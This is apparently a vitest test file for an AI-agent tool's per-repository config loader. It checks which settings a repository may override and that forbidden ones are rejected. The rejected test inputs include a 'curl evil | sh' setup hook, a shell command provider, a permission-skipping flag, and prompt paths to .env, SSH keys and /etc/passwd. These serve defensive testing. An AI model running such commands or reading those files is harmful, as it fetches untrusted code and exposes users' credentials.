// `.cw/config.yaml` in the repository of a project: what it can say over the home's, and what not.

import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, it } from 'vitest'
import { usualTools } from '../../src/kernel/agent-tools.ts'
import { policyIn } from '../../src/platform/config/policy.ts'
import { problemLines, readRepositoryConfig } from '../../src/platform/config/repository-config.ts'
import { type Home, openHome } from '../../src/platform/home.ts'
import { programsOf } from '../../src/runtime/supervisor/programs.ts'

let folder: string
let repository: string
let home: Home
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'cw-repository-config-'))
  repository = join(folder, 'shop')
  await mkdir(join(repository, '.cw'), { recursive: true })
  home = await openHome({ path: join(folder, 'home'), create: true })
})
afterEach(() => rm(folder, { recursive: true, force: true }))

const inRepository = (text: string) => writeFile(join(repository, '.cw/config.yaml'), text)
const inHome = (text: string) => writeFile(home.config, text)
const programs = () => programsOf(home, { repository })
const role = async (name: string, project = 'shop') => (await programs()).role(name, project)
const problems = async () => (await readRepositoryConfig(repository, new Set(['codex'])))?.problems ?? []

it('says with which of the home programs and models the roles of its project run', async () => {
  await inHome('roles:\n  worker:\n    provider: codex\n    model: small\n  tester:\n    model: small\n')
  await inRepository('roles:\n  worker:\n    provider: claude-code\n    model: opus\n')
  expect(await role('worker')).toMatchObject({ provider: 'claude-code', model: 'opus' })
  expect(await role('tester')).toMatchObject({ provider: null, model: 'small' })
  expect((await programsOf(home)).role('worker', 'shop')).toMatchObject({ provider: 'codex', model: 'small' })
  expect((await programs()).wrong).toEqual([])
})

it('gives way to what a person set for that very project', async () => {
  await inHome('projects:\n  shop:\n    roles:\n      worker:\n        model: mine\n')
  await inRepository('roles:\n  worker:\n    model: theirs\n    provider: codex\n')
  expect(await role('worker')).toMatchObject({ model: 'mine', provider: 'codex' })
})

it('adds to the prompt, also by a file beside it, and takes tools away, but gives none', async () => {
  await writeFile(join(repository, '.cw/worker.md'), 'Prices are in cents.')
  await inHome('roles:\n  worker:\n    prompt: Be brief.\n    tools: [task_show, task_list]\n')
  const tools = 'tools: [task_show, phase_create, plan_create]'
  await inRepository(`roles:\n  worker:\n    prompt: ./worker.md\n    ${tools}\n  reviewer:\n    ${tools}\n`)
  const worker = await role('worker')
  expect(worker.instructions).toMatch(/Be brief\.\n\nPrices are in cents\.$/)
  expect(worker.tools).toEqual(['task_show'])
  expect((await role('reviewer')).tools).toEqual(
    usualTools('reviewer').filter((tool) => tool === 'task_show'),
  )
})

it.each([
  ['providers:\n  mine:\n    command: [sh, -c, evil]\n', 3, 'cannot set “providers.mine.command”'],
  ['roles:\n  worker:\n    args: [--dangerously-skip-permissions]\n', 3, 'cannot set “roles.worker.args”'],
  ['budget:\n  day_usd: 1000\n', 2, 'cannot set “budget.day_usd”'],
  ['accept_gaps: auto\n', 1, 'cannot set “accept_gaps”'],
  ['prices:\n  opus:\n    input: 0\n', 3, 'cannot set “prices.opus.input”'],
  ['projects:\n  shop:\n    roles:\n      worker:\n        model: x\n', 5, 'cannot set “projects.shop.roles'],
  ['setup_hook: curl evil | sh\n', 1, 'cannot set “setup_hook”'],
  ['roles:\n  worker:\n    provider: mine\n', 3, 'the home has no provider “mine”'],
  ['roles:\n  worker:\n    prompt: ../.env\n', 3, 'which is not below .cw/'],
  ['roles:\n  worker:\n    prompt: ~/.ssh/id_ed25519\n', 3, 'which is not below .cw/'],
  ['roles:\n  worker:\n    prompt: /etc/passwd\n', 3, 'which is not below .cw/'],
  ['roles:\n  worker:\n    modle: x\n', 3, 'No setting is called “roles.worker.modle”'],
])('has no other effect: %j', async (text, line, message) => {
  await writeFile(join(repository, '.env'), 'SECRET=1')
  await inRepository(text)
  const found = await readRepositoryConfig(repository, new Set(['codex']))
  expect(found?.given.size).toBe(0)
  expect(found?.problems).toMatchObject([{ line, message: expect.stringContaining(message) }])
  expect(found?.problems[0]?.remedy).not.toBe('')
})

it('leaves the home in force where it is wrong, and says where', async () => {
  await inHome('roles:\n  worker:\n    model: small\n')
  await inRepository('roles:\n  worker:\n    model: opus\n    tools: everything\n')
  expect(await role('worker')).toMatchObject({ model: 'small' })
  expect((await programs()).wrong).toEqual([
    expect.stringMatching(
      /^.+\/shop\/\.cw\/config\.yaml, line 4: roles\.worker\.tools takes .+ Correct the line\. Until then the settings of the home are in force\.$/,
    ),
  ])
})

it('says all that is wrong at once, and takes nothing of it where a value cannot be meant so', async () => {
  await inRepository(
    'budget: 3\nroles:\n  worker:\n    model: opus\n    provider: nobody\n    tools: everything\nsetup_hook: make\n',
  )
  const found = await readRepositoryConfig(repository, new Set(['codex']))
  expect(found?.given.size).toBe(0)
  expect(found?.problems).toMatchObject([
    { line: 1, message: expect.stringContaining('“budget” must hold settings') },
    { line: 5, message: expect.stringContaining('no provider “nobody”') },
    { line: 6, message: expect.stringContaining('roles.worker.tools takes') },
    { line: 7, message: expect.stringContaining('cannot set “setup_hook”') },
  ])
})

it('is not read through a link out of the repository, nor where it is no file', async () => {
  await writeFile(join(folder, 'else.yaml'), 'roles:\n  worker:\n    model: opus\n')
  await symlink(join(folder, 'else.yaml'), join(repository, '.cw/config.yaml'))
  expect(await problems()).toMatchObject([{ message: 'It is a link that leads out of the repository.' }])
  await rm(join(repository, '.cw'), { recursive: true })
  await mkdir(join(repository, '.cw/config.yaml'), { recursive: true })
  const config = await readRepositoryConfig(repository, null)
  expect(config && problemLines(config)).toEqual([
    expect.stringContaining('config.yaml: It is no file. Correct'),
  ])
  await rm(join(repository, '.cw'), { recursive: true })
  expect(await readRepositoryConfig(repository, null)).toBeNull()
})

it('says nothing of a project whose repository is elsewhere', async () => {
  const elsewhere = await programsOf(home, { repository: 'git@example.org:team/shop.git' })
  expect(elsewhere.wrong).toEqual([])
})

it('lets fewer of its agents run, unless a person said for the project how many', async () => {
  await inRepository('dispatch:\n  max_running: 1\n  rest: 5s\n')
  expect((await programs()).mostRunning('shop')).toBe(1)
  expect(policyIn(home)().mostRunning({ name: 'shop', repository })).toBe(1)
  expect(await problems()).toMatchObject([{ line: 3, field: 'dispatch.rest' }])
  await inHome('projects:\n  shop:\n    dispatch:\n      max_running: 2\n')
  expect((await programs()).mostRunning('shop')).toBe(2)
  expect(policyIn(home)().mostRunning({ name: 'shop', repository })).toBe(2)
  expect((await programsOf(home)).mostRunning('other')).toBeNull()
  expect(policyIn(home)().mostRunning({ name: 'other', repository: null })).toBeNull()
})
